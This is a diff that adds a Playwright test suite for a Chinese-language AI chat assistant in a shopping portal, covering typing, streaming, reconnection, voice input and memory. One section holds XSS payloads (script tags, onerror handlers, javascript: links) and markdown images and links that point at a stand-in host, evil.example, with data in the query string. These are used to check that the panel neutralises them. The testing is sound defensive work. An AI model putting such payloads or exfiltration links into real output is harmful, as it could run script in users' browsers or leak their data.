@@ -1,0 +1,500 @@
+import assert from 'node:assert/strict'
+import { after, before, beforeEach, describe, test } from 'node:test'
+import type { Locator } from 'playwright-core'
+import { assistantTexts } from '../../src/features/assistant/assistant.i18n'
+import { microphoneTexts } from '../../src/ui/microphone.i18n'
+import { eventually, wordsIn } from '../demo'
+import { startFakeAsr, type FakeAsr } from '../vendors/asr'
+import { startFakeLlm, type FakeLlm, type Step } from '../vendors/llm'
+import { openPortal, type Phone, type Portal } from './portal'
+import { switchboard } from './switchboard'
+
+const words = wordsIn('zh')
+const [t, microphone] = [words(assistantTexts), words(microphoneTexts)]
+const ASK = '/xiaobao/chat/handle/handleChatStream'
+
+let portal: Portal
+let vendor: FakeLlm
+let asr: FakeAsr
+before(async () => {
+  vendor = await startFakeLlm()
+  asr = await startFakeAsr()
+  portal = await openPortal({
+    flags: ['--use-fake-device-for-media-stream'],
+    config: { llm: [{ vendor: 'custom', displayName: 'Test', model: 'm', url: `${vendor.url}/chat/completions`, key: 'k', thinking: 'type' }], asr: { url: `${asr.url}/audio/transcriptions`, key: '', model: 'm' } },
+  })
+})
+after(async () => {
+  await portal.stop()
+  await Promise.all([vendor.close(), asr.close()])
+})
+beforeEach(() => {
+  vendor.script({ steps: ['好的。'] })
+  // the tests share their people, who may ask only so much in a minute
+  portal.clock.advance(60_000)
+})
+
+/** A gate in a vendor's answer. */
+function gate(): { step: Step; open: () => void } {
+  let open = (): void => undefined
+  const until = new Promise<void>(resolve => { open = resolve })
+  return { step: { until }, open }
+}
+const PARAGRAPHS = Array.from({ length: 40 }, (_, i) => `第 ${String(i + 1)} 段：先关闭电源，再取下滤网，用清水冲洗，晾干以后装回去。\n\n`)
+
+/** Somebody who signed in, types rather than talks, and has the panel open. */
+async function withPanel(options: Parameters<Portal['signedIn']>[0] = {}): Promise<Phone> {
+  const phone = await portal.signedIn({ ...options, kept: { 'chat-ai-input-mode': 'text', ...options.kept } })
+  await openPanel(phone)
+  await input(phone).waitFor()
+  return phone
+}
+/** The panel over a screen, with a conversation of its own: the tests share their people. */
+async function openPanel(phone: Phone): Promise<void> {
+  await phone.open('/mall/user')
+  await phone.page.locator('#assistant').click()
+  await phone.page.locator('#assistant-create').click()
+}
+const input = (phone: Phone): Locator => phone.page.locator('#assistant-input')
+const send = (phone: Phone): Locator => phone.page.locator('#assistant-send')
+const answers = (phone: Phone): Locator => phone.page.locator('.chat-message--assistant')
+const answer = (phone: Phone): Locator => answers(phone).last()
+const questions = (phone: Phone): Locator => phone.page.locator('.chat-message--user')
+const list = (phone: Phone): Locator => phone.page.locator('.chat__list')
+/** What an answer says, without the line breaks between its blocks. */
+const said = async (phone: Phone): Promise<string> => (await answer(phone).locator('.md').allTextContents()).join('').replace(/\s+/g, '')
+const whole = (steps: readonly string[]): string => steps.join('').replace(/\s+/g, '')
+
+async function ask(phone: Phone, question: string): Promise<void> {
+  await input(phone).fill(question)
+  await send(phone).click()
+}
+const finished = (phone: Phone): Promise<void> => answer(phone).locator('.chat-message__actions').waitFor()
+/** Calls of the contract that the browser makes from now on. */
+function callsOf(phone: Phone, call: string): string[] {
+  const made: string[] = []
+  phone.context.on('request', request => { if (new URL(request.url()).pathname.endsWith(call)) made.push(request.url()) })
+  return made
+}
+
+describe('writing a question', () => {
+  test('Enter that ends a word of an input method sends nothing, the next one does', async () => {
+    const phone = await withPanel()
+    const asked = callsOf(phone, ASK)
+    await input(phone).focus()
+    const keys = await phone.context.newCDPSession(phone.page)
+    await keys.send('Input.imeSetComposition', { text: 'kongtiao', selectionStart: 8, selectionEnd: 8 })
+    // the input method takes the key: no character comes of it
+    await keys.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', key: 'Enter', code: 'Enter', windowsVirtualKeyCode: 13 })
+    assert.deepEqual([await input(phone).inputValue(), asked.length, await questions(phone).count()], ['kongtiao', 0, 0])
+    await keys.send('Input.insertText', { text: '空调不制冷' })
+    await phone.page.keyboard.press('Shift+Enter')
+    await phone.page.keyboard.type('怎么办')
+    assert.equal(await input(phone).inputValue(), '空调不制冷\n怎么办')
+    await phone.page.keyboard.press('Enter')
+    await finished(phone)
+    assert.deepEqual([asked.length, await questions(phone).locator('.chat-message__bubble').allTextContents(), await input(phone).inputValue()], [1, ['空调不制冷\n怎么办'], ''])
+    await phone.leave()
+  })
+
+  test('a double tap asks once, and a text that is not sent comes back', async () => {
+    const phone = await withPanel()
+    const asked = callsOf(phone, ASK)
+    await input(phone).fill('多久清洗一次？')
+    await send(phone).dblclick()
+    await finished(phone)
+    assert.deepEqual([asked.length, await questions(phone).count(), await answers(phone).count()], [1, 1, 1])
+    await ask(phone, '哪里有赌博网站')
+    await phone.toast(t('sensitive'))
+    assert.deepEqual([await input(phone).inputValue(), await questions(phone).count()], ['哪里有赌博网站', 1])
+    await input(phone).fill('   ')
+    await send(phone).click()
+    await phone.toast(t('placeholder'))
+    assert.equal(asked.length, 1)
+    // each conversation keeps its draft, over a reload
+    await input(phone).fill('写到一半')
+    await new Promise(resolve => setTimeout(resolve, 600))
+    await phone.reload()
+    await phone.page.locator('#assistant').click()
+    await eventually(async () => assert.equal(await input(phone).inputValue(), '写到一半'))
+    await phone.leave()
+  })
+
+  test('the input stays above a keypad that covers the page, and above one that makes it smaller', async () => {
+    const phone = await withPanel()
+    const bottom = async () => { const box = await phone.page.locator('.composer__bar').boundingBox(); return box ? box.y + box.height : Infinity }
+    await phone.page.evaluate(() => {
+      // as iOS tells it: the window keeps its size, only the visual viewport shrinks
+      Object.defineProperty(visualViewport, 'height', { value: 500, configurable: true })
+      visualViewport?.dispatchEvent(new Event('resize'))
+    })
+    await eventually(async () => assert.ok(await bottom() <= 500, `the input ends at ${String(await bottom())} px of 500`))
+    await phone.page.evaluate(() => {
+      Reflect.deleteProperty(visualViewport ?? {}, 'height')
+      visualViewport?.dispatchEvent(new Event('resize'))
+    })
+    await eventually(async () => assert.ok(await bottom() > 700))
+    await phone.page.setViewportSize({ width: 390, height: 460 })
+    await eventually(async () => assert.ok(await bottom() <= 460, `the input ends at ${String(await bottom())} px of 460`))
+    assert.ok(((await phone.page.locator('.chat-head').boundingBox())?.y ?? -1) >= 0)
+    await phone.leave()
+  })
+})
+
+describe('an answer that comes', () => {
+  test('is drawn as it comes, and heard by screen readers once, when it is over', async () => {
+    const phone = await withPanel()
+    const [first, second] = [gate(), gate()]
+    vendor.script({ steps: [{ thinking: '先看看手册。' }, first.step, '**真。**她说', second.step, '：好的。'] })
+    await ask(phone, '你好')
+    const thinking = answer(phone).locator('.thinking__text')
+    await thinking.getByText('先看看手册。').waitFor()
+    const busy = () => list(phone).getAttribute('aria-busy')
+    assert.equal(await busy(), 'true')
+    first.open()
+    // nothing waits for what comes next
+    await answer(phone).locator('.md__strong', { hasText: '真。' }).waitFor()
+    await thinking.waitFor({ state: 'detached' })
+    const heard = phone.page.locator('.chat > [role="status"]')
+    assert.deepEqual([await busy(), await heard.textContent()], ['true', ''])
+    second.open()
+    await finished(phone)
+    await eventually(async () => assert.deepEqual([await busy(), await heard.textContent()], ['false', t('answerDone', { text: '真。她说：好的。' })]))
+    await answer(phone).getByRole('button', { name: t('thoughtFor', { n: 1 }).split('1')[0] ?? '' }).click()
+    await thinking.getByText('先看看手册。').waitFor()
+    await phone.accessible()
+    await phone.leave()
+  })
+
+  test('is followed, but does not pull a reader down who has scrolled up', async () => {
+    const phone = await withPanel()
+    const [more, rest] = [gate(), gate()]
+    vendor.script({ steps: [...PARAGRAPHS.slice(0, 20), more.step, ...PARAGRAPHS.slice(20, 35), rest.step, ...PARAGRAPHS.slice(35)] })
+    await ask(phone, '怎么清洗？')
+    await answer(phone).getByText('第 20 段').waitFor()
+    const place = () => list(phone).evaluate(one => ({ top: one.scrollTop, left: one.scrollHeight - one.scrollTop - one.clientHeight, height: one.scrollHeight }))
+    await eventually(async () => assert.ok((await place()).left <= 1, 'the end is in sight'))
+    await list(phone).hover()
+    await phone.page.mouse.wheel(0, -300)
+    await phone.page.locator('.chat__latest').waitFor()
+    const { top, height } = await place()
+    more.open()
+    await answer(phone).getByText('第 35 段').waitFor({ state: 'attached' })
+    await eventually(async () => assert.ok((await place()).height > height + 300, 'it has grown'))
+    assert.equal((await place()).top, top)
+    await phone.page.locator('.chat__latest').click()
+    await eventually(async () => assert.ok((await place()).left <= 1))
+    rest.open()
+    await finished(phone)
+    await eventually(async () => assert.ok((await place()).left <= 1, 'it is followed again'))
+    assert.equal(await said(phone), whole(PARAGRAPHS))
+    await phone.leave()
+  })
+
+  test('goes on after the line is cut, each word once', async () => {
+    const board = await switchboard()
+    after(() => board.close())
+    board.target = portal.url
+    const phone = await withPanel({ origin: board.url })
+    const [first, second] = [gate(), gate()]
+    vendor.script({ steps: [...PARAGRAPHS.slice(0, 3), first.step, ...PARAGRAPHS.slice(3, 6), second.step, ...PARAGRAPHS.slice(6, 9)] })
+    const [lines, before] = [callsOf(phone, ASK), vendor.asked.length]
+    await ask(phone, '怎么清洗？')
+    await answer(phone).getByText('第 3 段').waitFor()
+    board.target = ''
+    board.hangUp()
+    first.open()
+    board.target = portal.url
+    await answer(phone).getByText('第 6 段').waitFor()
+    // as a phone without network, and as an app in the background
+    await phone.context.setOffline(true)
+    board.hangUp()
+    second.open()
+    await phone.context.setOffline(false)
+    await finished(phone)
+    assert.equal(await said(phone), whole(PARAGRAPHS.slice(0, 9)))
+    assert.ok(lines.length >= 3, `${String(lines.length)} lines`)
+    assert.deepEqual([vendor.asked.length - before, await questions(phone).count()], [1, 1])
+    await phone.leave()
+  })
+
+  test('a tab that was frozen catches up, and never shows half an answer as a whole one', async () => {
+    const phone = await withPanel()
+    const first = gate()
+    vendor.script({ steps: [...PARAGRAPHS.slice(0, 2), first.step, ...PARAGRAPHS.slice(2, 8)] })
+    await ask(phone, '怎么清洗？')
+    await answer(phone).getByText('第 2 段').waitFor()
+    const device = await phone.context.newCDPSession(phone.page)
+    await device.send('Page.setWebLifecycleState', { state: 'frozen' })
+    first.open()
+    await new Promise(resolve => setTimeout(resolve, 1000))
+    await device.send('Page.setWebLifecycleState', { state: 'active' })
+    await finished(phone)
+    assert.equal(await said(phone), whole(PARAGRAPHS.slice(0, 8)))
+    await phone.leave()
+  })
+
+  test('is still there after a reload, another screen and another conversation', async () => {
+    const phone = await withPanel()
+    const gates = [gate(), gate(), gate()]
+    vendor.script({ steps: [...PARAGRAPHS.slice(0, 2), gates[0]?.step ?? '', ...PARAGRAPHS.slice(2, 4), gates[1]?.step ?? '', ...PARAGRAPHS.slice(4, 6), gates[2]?.step ?? '', ...PARAGRAPHS.slice(6, 8)] }, { steps: ['另一个回答。'] })
+    await ask(phone, '怎么清洗？')
+    await answer(phone).getByText('第 2 段').waitFor()
+    // A, B, and A again
+    await phone.page.locator('#assistant-create').click()
+    await ask(phone, '另一个问题')
+    await finished(phone)
+    assert.equal(await said(phone), '另一个回答。')
+    gates[0]?.open()
+    await phone.page.getByRole('button', { name: t('conversations') }).click()
+    await phone.page.locator('.chats__open').nth(1).click()
+    await answer(phone).getByText('第 4 段').waitFor()
+    // another screen of the portal
+    await phone.page.evaluate(() => { location.hash = '/mall/serviceCenter' })
+    await phone.at('/mall/serviceCenter')
+    gates[1]?.open()
+    await answer(phone).getByText('第 6 段').waitFor()
+    await phone.reload()
+    await phone.page.locator('#assistant').click()
+    await phone.page.getByRole('button', { name: t('conversations') }).click()
+    await phone.page.locator('.chats__open').nth(1).click()
+    await answer(phone).getByText('第 6 段').waitFor()
+    gates[2]?.open()
+    await finished(phone)
+    assert.equal(await said(phone), whole(PARAGRAPHS.slice(0, 8)))
+    assert.equal(await questions(phone).count(), 1)
+    await phone.leave()
+  })
+
+  test('two tabs on one conversation show the same answer', async () => {
+    const phone = await withPanel()
+    const first = gate()
+    vendor.script({ steps: [...PARAGRAPHS.slice(0, 2), first.step, ...PARAGRAPHS.slice(2, 5)] })
+    await ask(phone, '怎么清洗？')
+    await answer(phone).getByText('第 2 段').waitFor()
+    const other = await phone.newTab()
+    await other.open('/mall/user')
+    await other.page.locator('#assistant').click()
+    await answer(other).getByText('第 2 段').waitFor()
+    first.open()
+    await Promise.all([finished(phone), finished(other)])
+    for (const one of [phone, other]) {
+      assert.equal(await said(one), whole(PARAGRAPHS.slice(0, 5)))
+      assert.deepEqual([await questions(one).count(), await answers(one).count()], [1, 1])
+    }
+    await phone.leave()
+  })
+
+  test('stop ends it at the vendor, before the first word and after, and a late word changes nothing', async () => {
+    const phone = await withPanel()
+    const never = gate()
+    vendor.script({ steps: [never.step, '太晚了'] }, { steps: ['说了一半', never.step, '太晚了'] }, { steps: ['新的回答。'] })
+    const before = vendor.asked.length
+    await ask(phone, '第一问')
+    await eventually(async () => assert.equal(vendor.asked.length, before + 1))
+    await phone.page.locator('#assistant-stop').click()
+    await phone.page.getByText(t('stopped')).first().waitFor()
+    await eventually(async () => assert.notEqual(vendor.asked[before]?.closedAfterMs, null))
+    await ask(phone, '第二问')
+    await answer(phone).getByText('说了一半').waitFor()
+    await phone.page.locator('#assistant-stop').click()
+    await eventually(async () => assert.notEqual(vendor.asked[before + 1]?.closedAfterMs, null))
+    assert.equal(await phone.page.getByText(t('stopped')).count(), 2)
+    await answer(phone).getByRole('button', { name: t('retry') }).click()
+    await answer(phone).getByText('新的回答。').waitFor()
+    await finished(phone)
+    never.open()
+    assert.equal(await phone.page.getByText('太晚了').count(), 0)
+    assert.equal(vendor.open, 0)
+    await phone.leave()
+  })
+
+  test('an error that comes first, an answer without a word, and one that breaks off', async () => {
+    const phone = await withPanel()
+    vendor.script({ steps: [{ error: { code: 'server_error', message: 'secret of the vendor' } }] }, { steps: [] }, { steps: ['说了一半', 'cut!'] }, { steps: ['好了。'] })
+    const before = vendor.asked.length
+    await ask(phone, '第一问')
+    await questions(phone).last().getByRole('button', { name: t('resend') }).waitFor()
+    assert.equal(await answers(phone).count(), 0)
+    await questions(phone).last().getByRole('button', { name: t('resend') }).click()
+    await eventually(async () => assert.equal(vendor.asked.length, before + 2))
+    await questions(phone).last().getByRole('button', { name: t('resend') }).click()
+    await answer(phone).locator('.chat-message__error').waitFor()
+    assert.match(await said(phone), /说了一半/)
+    await answer(phone).getByRole('button', { name: t('retry') }).click()
+    await answer(phone).getByText('好了。').waitFor()
+    assert.equal(await questions(phone).count(), 1)
+    assert.equal(await phone.page.getByText('secret of the vendor').count(), 0)
+    await phone.leave()
+  })
+})
+
+describe('what a model may not do', () => {
+  const PAYLOADS = ['<img src=x onerror="window.pwned=1">', '<script>window.pwned=1</script>', '[tap](javascript:window.pwned=1)', '<a href="javascript:window.pwned=1">a</a>', '![x](javascript:window.pwned=1)', '<svg onload=window.pwned=1>', '[x](data:text/html,<script>window.pwned=1</script>)']
+  const isPwned = (phone: Phone) => phone.page.evaluate(() => 'pwned' in window)
+
+  test('scripts in answers, questions, names of conversations and names of files stay text', async () => {
+    const phone = await withPanel()
+    vendor.script({ steps: [PAYLOADS.join('\n\n'), '\n\n结束。'] })
+    await ask(phone, PAYLOADS[0] ?? '')
+    await answer(phone).getByText('结束。').waitFor()
+    await finished(phone)
+    await phone.page.getByRole('button', { name: t('conversations') }).click()
+    await phone.page.locator('.chats__open').first().waitFor()
+    await phone.page.locator('.chats__group .chats__button').first().click()
+    await phone.page.locator('.chats__rename input').fill(PAYLOADS[5] ?? '')
+    await phone.page.locator('.chats__rename button').click()
+    await phone.page.locator('.chats__theme', { hasText: '<svg onload' }).waitFor()
+    await phone.page.keyboard.press('Escape')
+    for (const link of await answer(phone).locator('a').all()) assert.doesNotMatch(await link.getAttribute('href') ?? '', /^\s*(javascript|data):/i)
+    assert.equal(await isPwned(phone), false)
+    await phone.leave()
+  })
+
+  test('nothing leaves for another host without a tap', async () => {
+    const phone = await withPanel()
+    const foreign: string[] = []
+    phone.context.on('request', request => { if (!request.url().startsWith(portal.url) && /^https?:/.test(request.url())) foreign.push(request.url()) })
+    await phone.context.route('https://evil.example/**', route => route.fulfill({ body: 'elsewhere' }))
+    vendor.script({ steps: ['![a](https://evil.example/p.png?data=1) ', '[看这里](https://evil.example/l?data=2) ', '<img src="https://evil.example/h.png"> ', '\n\n![b][r]\n\n[r]: https://evil.example/r.png\n\n结束。'] })
+    await ask(phone, '看图')
+    await answer(phone).getByText('结束。').waitFor()
+    await finished(phone)
+    await phone.page.waitForLoadState('networkidle')
+    assert.deepEqual(foreign, [])
+    const [opened] = await Promise.all([phone.context.waitForEvent('page'), answer(phone).getByText('看这里').click()])
+    assert.equal(opened.url(), 'https://evil.example/l?data=2')
+    await phone.leave()
+  })
+
+  test('a list and a table of 10,000 characters are drawn whole, and the screen stays in hand', async () => {
+    const phone = await withPanel()
+    const rows = Array.from({ length: 260 }, (_, i) => `| 第 ${String(i)} 行 | 更换滤芯并记录读数 | ${'0123456789'.repeat(2)} |\n`)
+    const items = Array.from({ length: 400 }, (_, i) => `- 第 ${String(i)} 项：检查水压、滤网和排水管\n`)
+    vendor.script({ steps: ['| 甲 | 乙 | 丙 |\n|---|---|---|\n', ...rows, '\n', ...items] })
+    await ask(phone, '列出来')
+    await finished(phone)
+    assert.equal(await answer(phone).locator('.md__table .md__row').count(), rows.length + 1)
+    await answer(phone).getByText('第 399 项').waitFor()
+    await phone.sound()
+    await phone.leave()
+  })
+})
+
+test('the button is drawn off what it covers, and is still a button there, on the next screen too', async () => {
+  const phone = await portal.signedIn()
+  await phone.open('/mall/user')
+  const button = phone.page.locator('#assistant')
+  await button.waitFor()
+  const place = async () => { const box = await button.boundingBox(); assert.ok(box); return { x: box.x + box.width / 2, y: box.y + box.height / 2 } }
+  const from = await place()
+  const finger = await phone.context.newCDPSession(phone.page)
+  const touch = (type: 'touchStart' | 'touchMove' | 'touchEnd', y: number) => finger.send('Input.dispatchTouchEvent', { type, touchPoints: type === 'touchEnd' ? [] : [{ x: from.x, y }] })
+  await touch('touchStart', from.y)
+  for (let moved = 20; moved <= 300; moved += 20) await touch('touchMove', from.y - moved)
+  // a finger that is still moving when it leaves begins a fling, which the next tap only ends
+  await new Promise(resolve => setTimeout(resolve, 300))
+  await touch('touchEnd', from.y - 300)
+  await eventually(async () => assert.ok(Math.abs((await place()).y - (from.y - 300)) <= 2, 'it follows the finger'))
+  assert.equal(await phone.page.locator('.composer').count(), 0, 'drawing is no tap')
+  await phone.page.evaluate(() => { location.hash = '/mall/serviceCenter' })
+  await phone.at('/mall/serviceCenter')
+  assert.ok(Math.abs((await place()).y - (from.y - 300)) <= 2)
+  await button.tap()
+  await phone.page.locator('.composer').waitFor()
+  await phone.leave()
+})
+
+describe('voice', () => {
+  const bar = (phone: Phone): Locator => phone.page.locator('.composer__talk')
+  const talking = async (): Promise<Phone> => {
+    const phone = await portal.signedIn({ kept: { 'chat-ai-input-mode': 'voice' } })
+    await phone.context.grantPermissions(['microphone'], { origin: portal.url })
+    return phone
+  }
+  const press = async (phone: Phone): Promise<{ x: number; y: number }> => {
+    const box = await bar(phone).boundingBox()
+    assert.ok(box)
+    const at = { x: box.x + box.width / 2, y: box.y + box.height / 2 }
+    await phone.page.mouse.move(at.x, at.y)
+    await phone.page.mouse.down()
+    return at
+  }
+
+  test('what is said is sent', async () => {
+    const phone = await talking()
+    asr.script({ body: { text: '洗衣机不脱水' } })
+    await openPanel(phone)
+    const before = asr.asked.length
+    await press(phone)
+    await phone.page.locator('.voice-dialog').waitFor()
+    await new Promise(resolve => setTimeout(resolve, 900))
+    await phone.page.mouse.up()
+    await questions(phone).getByText('洗衣机不脱水').waitFor()
+    await finished(phone)
+    assert.equal(asr.asked.length, before + 1)
+    assert.equal(asr.asked.at(-1)?.bytes.toString('latin1', 0, 4), 'RIFF')
+    await phone.leave()
+  })
+
+  test('slid away and too short, nothing is sent; silence says so', async () => {
+    const phone = await talking()
+    asr.script({ body: { text: '' } })
+    await openPanel(phone)
+    const before = asr.asked.length
+    const at = await press(phone)
+    await new Promise(resolve => setTimeout(resolve, 700))
+    await phone.page.mouse.move(at.x, at.y - 60, { steps: 4 })
+    await phone.page.locator('.voice-dialog--cancel').waitFor()
+    await phone.page.mouse.move(at.x, at.y - 45, { steps: 2 })
+    assert.equal(await phone.page.locator('.voice-dialog--cancel').count(), 1)
+    await phone.page.mouse.move(at.x, at.y - 30, { steps: 2 })
+    await phone.page.locator('.voice-dialog--normal').waitFor()
+    await phone.page.mouse.move(at.x, at.y - 80, { steps: 4 })
+    await phone.page.mouse.up()
+    await phone.page.locator('.voice-dialog').waitFor({ state: 'detached' })
+    await bar(phone).click()
+    await phone.toast(t('tooShort'))
+    assert.equal(asr.asked.length, before)
+    await press(phone)
+    await new Promise(resolve => setTimeout(resolve, 900))
+    await phone.page.mouse.up()
+    await phone.toast(t('voiceEmpty'))
+    assert.equal(await questions(phone).count(), 0)
+    await phone.leave()
+  })
+
+  for (const [name, problem] of [['NotAllowedError', 'denied'], ['NotFoundError', 'notFound'], ['NotSupportedError', 'unsupported'], ['AbortError', 'other']] as const) {
+    test(`${name} of the microphone is told in words`, async () => {
+      const phone = await talking()
+      await phone.page.addInitScript(one => { if (isSecureContext) navigator.mediaDevices.getUserMedia = () => Promise.reject(new DOMException('', one)) }, name)
+      await openPanel(phone)
+      await press(phone)
+      await phone.page.getByText(microphone(`microphone.${problem}`)).waitFor()
+      await phone.page.mouse.up()
+      assert.equal(await questions(phone).count(), 0)
+      await phone.leave()
+    })
+  }
+})
+
+test('twenty long answers leave no more behind than what they say', async t2 => {
+  const phone = await withPanel()
+  const device = await phone.context.newCDPSession(phone.page)
+  const heap = async (): Promise<number> => {
+    await device.send('HeapProfiler.collectGarbage')
+    return (await device.send('Runtime.getHeapUsage')).usedSize
+  }
+  vendor.script({ steps: [...PARAGRAPHS, '```js\n', ...Array.from({ length: 60 }, (_, i) => `const a${String(i)} = ${String(i)}\n`), '```\n', '结束。'] })
+  const sizes: number[] = []
+  for (let i = 0; i < 20; i++) {
+    await ask(phone, `第 ${String(i + 1)} 问`)
+    await eventually(async () => assert.equal(await answers(phone).locator('.chat-message__actions').count(), i + 1))
+    if (i % 5 === 4) sizes.push(await heap())
+    if (i === 9) portal.clock.advance(60_000)
+  }
+  t2.diagnostic(sizes.map(size => `${String(Math.round(size / 1024))} KB`).join(', '))
+  const [five = 0, ten = 0, fifteen = 0, twenty = 0] = sizes
+  assert.ok(twenty - fifteen <= 2 * Math.max(ten - five, 500_000), 'the last five answers take no more than the second five')
+  await phone.leave()
+})
